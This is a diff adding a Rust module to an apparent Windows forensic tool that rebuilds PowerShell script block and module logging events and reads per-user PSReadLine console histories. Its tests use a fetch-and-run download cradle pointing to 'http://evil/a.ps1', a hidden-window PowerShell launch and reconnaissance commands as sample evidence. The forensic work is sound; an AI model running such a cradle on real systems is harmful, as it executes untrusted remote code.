@@ -0,0 +1,263 @@
+//! PowerShell script block, module logging and console history
+//! Script block logging (4104) splits long scripts over several events that
+//! share a ScriptBlockId; the parts are put back together in MessageNumber
+//! order, and parts logged twice are kept once. Module logging (4103) records
+//! each pipeline with its host application and user. The PSReadLine history
+//! files of every profile add the interactive commands typed at a console,
+//! which are kept even when no logging is configured.
+
+use crate::event_logs::POWERSHELL_CHANNEL;
+use crate::footprint;
+use crate::forensic_types::{AuditEntry, PowershellEvent};
+use crate::offline::OfflineRoot;
+use crate::types::{EventLogEntry, EventLogs};
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::Path;
+
+const COMPONENT: &str = "powershell";
+
+const USERS_DIRECTORY: &str = "C:\\Users";
+const PSREADLINE_SUBPATH: [&str; 6] = ["AppData", "Roaming", "Microsoft", "Windows", "PowerShell", "PSReadLine"];
+/// ConsoleHost_history.txt and the histories of other hosts (VS Code, ISE)
+const HISTORY_SUFFIX: &str = "_history.txt";
+
+const EVENT_MODULE_LOGGING: u32 = 4103;
+const EVENT_SCRIPT_BLOCK: u32 = 4104;
+
+/// PowerShell activity of the collected event logs and of the console
+/// histories of the live system or offline volume
+pub fn collect_powershell_activity(event_logs: &EventLogs, offline_root: Option<&OfflineRoot>) -> (Vec<PowershellEvent>, Vec<AuditEntry>) {
+    let start_time = std::time::Instant::now();
+    let mut audit_log = vec![AuditEntry::new(COMPONENT, "INFO", "start_collection", "Starting PowerShell activity analysis".to_string(), "started")];
+
+    let channel_events = event_logs.channels.get(POWERSHELL_CHANNEL).map(Vec::as_slice).unwrap_or_default();
+    let mut events = reassemble_script_blocks(channel_events);
+    events.extend(channel_events.iter().filter(|e| e.event_id == EVENT_MODULE_LOGGING).map(module_logging_event));
+    audit_log.push(AuditEntry::new(
+        COMPONENT,
+        "DEBUG",
+        "event_logs",
+        format!("Parsed {} script blocks and pipeline executions from {} events", events.len(), channel_events.len()),
+        "success",
+    ));
+
+    let users_dir = match offline_root {
+        Some(root) => root.resolve(USERS_DIRECTORY),
+        None => USERS_DIRECTORY.into(),
+    };
+    events.extend(console_histories(&users_dir, &mut audit_log));
+
+    let mut complete = AuditEntry::new(COMPONENT, "INFO", "complete_collection", format!("Collected {} PowerShell records", events.len()), "success");
+    complete.duration_ms = Some(start_time.elapsed().as_millis() as u64);
+    audit_log.push(complete);
+    (events, audit_log)
+}
+
+/// Join the parts of each 4104 script block; the earliest part dates it
+fn reassemble_script_blocks(channel_events: &[EventLogEntry]) -> Vec<PowershellEvent> {
+    let mut blocks: BTreeMap<String, (Vec<&EventLogEntry>, BTreeMap<u32, &str>)> = BTreeMap::new();
+    for event in channel_events.iter().filter(|e| e.event_id == EVENT_SCRIPT_BLOCK) {
+        let field = |name: &str| event.event_data.get(name).map(String::as_str).unwrap_or_default();
+        // Script blocks logged without an ID cannot be joined; key them by record
+        let id = match field("ScriptBlockId") {
+            "" => format!("record-{}", event.record_id),
+            id => id.to_string(),
+        };
+        let (events, parts) = blocks.entry(id).or_default();
+        events.push(event);
+        parts.entry(field("MessageNumber").parse().unwrap_or(1)).or_insert(field("ScriptBlockText"));
+    }
+
+    let mut script_blocks: Vec<PowershellEvent> = blocks
+        .into_iter()
+        .map(|(id, (events, parts))| {
+            let first = events.iter().min_by(|a, b| a.timestamp.cmp(&b.timestamp)).copied().unwrap_or(events[0]);
+            PowershellEvent {
+                event_id: EVENT_SCRIPT_BLOCK,
+                timestamp: first.timestamp.clone(),
+                level: first.level.clone(),
+                script_block: parts.into_values().collect(),
+                command_line: first.event_data.get("Path").cloned().unwrap_or_default(),
+                user: String::new(),
+                host_application: String::new(),
+                engine_version: String::new(),
+                script_block_id: if id.starts_with("record-") { String::new() } else { id },
+                source: POWERSHELL_CHANNEL.to_string(),
+            }
+        })
+        .collect();
+    script_blocks.sort_by(|a, b| a.timestamp.cmp(&b.timestamp));
+    script_blocks
+}
+
+/// 4103 events describe the pipeline in ContextInfo lines (`Host Application = ...`)
+fn module_logging_event(event: &EventLogEntry) -> PowershellEvent {
+    let context = event.event_data.get("ContextInfo").map(String::as_str).unwrap_or_default();
+    let context_field = |name: &str| {
+        context
+            .lines()
+            .filter_map(|line| line.split_once('='))
+            .find(|(key, _)| key.trim() == name)
+            .map(|(_, value)| value.trim().to_string())
+            .unwrap_or_default()
+    };
+    PowershellEvent {
+        event_id: EVENT_MODULE_LOGGING,
+        timestamp: event.timestamp.clone(),
+        level: event.level.clone(),
+        script_block: event.event_data.get("Payload").map(|payload| payload.trim().to_string()).unwrap_or_default(),
+        command_line: context_field("Command Name"),
+        user: context_field("User"),
+        host_application: context_field("Host Application"),
+        engine_version: context_field("Engine Version"),
+        script_block_id: String::new(),
+        source: POWERSHELL_CHANNEL.to_string(),
+    }
+}
+
+/// PSReadLine history files of every profile below `users_dir`
+fn console_histories(users_dir: &Path, audit_log: &mut Vec<AuditEntry>) -> Vec<PowershellEvent> {
+    let user_dirs = match footprint::read_dir(users_dir) {
+        Ok(user_dirs) => user_dirs,
+        Err(e) => {
+            audit_log.push(AuditEntry::new(
+                COMPONENT,
+                "WARN",
+                "directory_check",
+                format!("Users directory not readable: {} ({})", users_dir.display(), e),
+                "not_found",
+            ));
+            return Vec::new();
+        }
+    };
+
+    let mut events = Vec::new();
+    for user_dir in user_dirs.filter_map(|e| e.ok()) {
+        let username = user_dir.file_name().to_string_lossy().to_string();
+        let history_dir = PSREADLINE_SUBPATH.iter().fold(user_dir.path(), |path, component| path.join(component));
+        let Ok(history_files) = footprint::read_dir(&history_dir) else { continue };
+        for history_file in history_files.filter_map(|e| e.ok()).map(|e| e.path()) {
+            let Some(host) = history_file.file_name().and_then(|name| name.to_str()).and_then(|name| name.strip_suffix(HISTORY_SUFFIX)) else {
+                continue;
+            };
+            match footprint::read(&history_file) {
+                Ok(data) => {
+                    let modified = fs::metadata(&history_file)
+                        .and_then(|metadata| metadata.modified())
+                        .map(|time| chrono::DateTime::<chrono::Utc>::from(time).to_rfc3339())
+                        .unwrap_or_default();
+                    let commands = parse_console_history(&String::from_utf8_lossy(&data));
+                    audit_log.push(AuditEntry::new(
+                        COMPONENT,
+                        "DEBUG",
+                        "console_history",
+                        format!("Read {} commands from {}", commands.len(), history_file.display()),
+                        "success",
+                    ));
+                    let last = commands.len().saturating_sub(1);
+                    events.extend(commands.into_iter().enumerate().map(|(index, command)| PowershellEvent {
+                        event_id: 0,
+                        // The file time only dates the last command
+                        timestamp: if index == last { modified.clone() } else { String::new() },
+                        level: String::new(),
+                        script_block: String::new(),
+                        command_line: command,
+                        user: username.clone(),
+                        host_application: host.to_string(),
+                        engine_version: String::new(),
+                        script_block_id: String::new(),
+                        source: history_file.display().to_string(),
+                    }));
+                }
+                Err(e) => audit_log.push(AuditEntry::new(COMPONENT, "WARN", "console_history", format!("Failed to read {}: {}", history_file.display(), e), "error")),
+            }
+        }
+    }
+    events
+}
+
+/// One command per line; PSReadLine saves multi-line commands with a
+/// trailing backtick on every line but the last
+fn parse_console_history(text: &str) -> Vec<String> {
+    let mut commands = Vec::new();
+    let mut current = String::new();
+    for line in text.lines() {
+        match line.strip_suffix('`') {
+            Some(continued) => {
+                current.push_str(continued);
+                current.push('\n');
+            }
+            None => {
+                current.push_str(line);
+                if !current.trim().is_empty() {
+                    commands.push(std::mem::take(&mut current));
+                }
+                current.clear();
+            }
+        }
+    }
+    if !current.trim().is_empty() {
+        commands.push(current.trim_end().to_string());
+    }
+    commands
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn event(event_id: u32, record_id: u64, timestamp: &str, data: &[(&str, &str)]) -> EventLogEntry {
+        let mut entry = EventLogEntry::new(event_id, "Warning".to_string(), timestamp.to_string(), String::new());
+        entry.record_id = record_id;
+        entry.event_data = data.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
+        entry
+    }
+
+    #[test]
+    fn test_script_blocks_are_reassembled() {
+        let part = |record, number, text| {
+            event(4104, record, "2024-04-19T11:33:20Z", &[("MessageNumber", number), ("MessageTotal", "2"), ("ScriptBlockId", "{a1}"), ("ScriptBlockText", text)])
+        };
+        let mut event_logs = EventLogs::default();
+        event_logs.channels.insert(POWERSHELL_CHANNEL.to_string(), vec![
+            part(12, "2", "DownloadString('http://evil/a.ps1')"),
+            part(11, "1", "IEX (New-Object Net.WebClient)."),
+            part(13, "2", "DownloadString('http://evil/a.ps1')"),
+            event(4104, 14, "2024-04-19T11:30:00Z", &[("ScriptBlockText", "Get-Date")]),
+            event(4103, 15, "2024-04-19T11:34:00Z", &[
+                ("ContextInfo", "        Severity = Informational\r\n        Host Application = powershell.exe -nop -w hidden\r\n        Engine Version = 5.1.19041.1\r\n        Command Name = Invoke-WebRequest\r\n        User = CORP\\bob\r\n"),
+                ("Payload", "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\n"),
+            ]),
+        ]);
+        let temp_dir = tempfile::TempDir::new().unwrap();
+        std::fs::create_dir(temp_dir.path().join("Windows")).unwrap();
+        let root = OfflineRoot::new(temp_dir.path()).unwrap();
+
+        let (events, audit_log) = collect_powershell_activity(&event_logs, Some(&root));
+        assert_eq!(events.len(), 3);
+        assert_eq!((events[0].script_block.as_str(), events[0].script_block_id.as_str()), ("Get-Date", ""));
+        assert_eq!(events[1].script_block, "IEX (New-Object Net.WebClient).DownloadString('http://evil/a.ps1')");
+        assert_eq!(events[1].script_block_id, "{a1}");
+        let pipeline = &events[2];
+        assert_eq!((pipeline.command_line.as_str(), pipeline.user.as_str()), ("Invoke-WebRequest", "CORP\\bob"));
+        assert_eq!((pipeline.host_application.as_str(), pipeline.engine_version.as_str()), ("powershell.exe -nop -w hidden", "5.1.19041.1"));
+        assert!(audit_log.iter().any(|log| log.action == "directory_check"));
+    }
+
+    #[test]
+    fn test_console_history_per_user() {
+        let temp_dir = tempfile::TempDir::new().unwrap();
+        let history_dir = PSREADLINE_SUBPATH.iter().fold(temp_dir.path().join("Users").join("alice"), |path, component| path.join(component));
+        std::fs::create_dir_all(&history_dir).unwrap();
+        std::fs::write(history_dir.join("ConsoleHost_history.txt"), "whoami\r\nGet-Process |`\r\n  Stop-Process\r\n\r\nnet user /domain\r\n").unwrap();
+        std::fs::write(history_dir.join("notes.txt"), "not a history").unwrap();
+
+        let mut audit_log = Vec::new();
+        let events = console_histories(&temp_dir.path().join("Users"), &mut audit_log);
+        let commands: Vec<&str> = events.iter().map(|e| e.command_line.as_str()).collect();
+        assert_eq!(commands, vec!["whoami", "Get-Process |\n  Stop-Process", "net user /domain"]);
+        assert!(events.iter().all(|e| e.user == "alice" && e.host_application == "ConsoleHost"));
+        assert!(events[0].timestamp.is_empty() && !events[2].timestamp.is_empty());
+    }
+}